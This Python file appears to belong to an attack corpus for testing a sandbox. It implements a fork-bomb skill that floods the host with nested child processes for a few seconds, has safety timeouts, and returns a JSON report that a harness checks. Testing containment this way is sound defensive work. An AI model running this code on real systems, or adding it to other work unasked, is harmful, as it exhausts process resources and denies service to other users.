"""Attack corpus: dos/fork-bomb.

Fork bomb: every process forks as fast as it can (self-limited to a few seconds so a broken jail cannot hang the host forever).
It returns a JSON report {"probes": {name: {"ok", "data"|"err", "errno"}}, "info": {...}}
that sandbox/sandboxtest asserts on; "ok": true means the attempt succeeded.
"""
import ctypes
import errno
import json
import os
import platform


def _errname(e):
    n = getattr(e, "errno", None)
    if isinstance(n, int):
        return errno.errorcode.get(n, str(n))
    return type(e).__name__


def probe(rep, name, fn):
    """Run fn, record {"ok": True, "data": ...} or {"ok": False, "err", "errno"}."""
    try:
        v = fn()
        if not isinstance(v, (str, int, float, bool, list, dict, type(None))):
            v = repr(v)
        rep["probes"][name] = {"ok": True, "data": v}
    except Exception as e:
        rep["probes"][name] = {"ok": False, "err": "%s: %s" % (type(e).__name__, e), "errno": _errname(e)}


_libc = []


def libc():
    if not _libc:
        l = ctypes.CDLL(None, use_errno=True)
        l.syscall.restype = ctypes.c_long
        _libc.append(l)
    return _libc[0]


def sc(nr, *args):
    """Raw syscall; raises OSError with the errno on -1."""
    a = [ctypes.c_long(x) if isinstance(x, int) else x for x in args]
    ctypes.set_errno(0)
    r = libc().syscall(ctypes.c_long(nr), *a)
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def new_report():
    return {"probes": {}, "info": {"arch": platform.machine(), "uid": os.getuid(), "pid": os.getpid()}}

from skillware.core.base_skill import BaseSkill  # noqa: E402

import signal
import time


def attack(params, rep):
    deadline = time.time() + float(params.get("seconds", 3))
    forks, fails, first_err = 0, 0, None
    while time.time() < deadline and fails < 50:
        try:
            pid = os.fork()
        except OSError as e:
            fails += 1
            first_err = first_err or "%s" % e
            time.sleep(0.01)
            continue
        if pid == 0:
            signal.alarm(15)  # safety net: a child never outlives 15 s even in a broken jail
            end = time.time() + 5
            while time.time() < end:
                try:
                    if os.fork() == 0:
                        signal.alarm(15)
                        time.sleep(10)
                        os._exit(0)
                except OSError:
                    time.sleep(0.05)
            time.sleep(10)
            os._exit(0)
        forks += 1
    rep["info"].update({"forks": forks, "fails": fails, "first_error": first_err})


class ForkBombAttack(BaseSkill):
    @property
    def manifest(self):
        return {"name": 'fork-bomb'}

    def execute(self, params):
        rep = new_report()
        attack(params or {}, rep)
        return rep
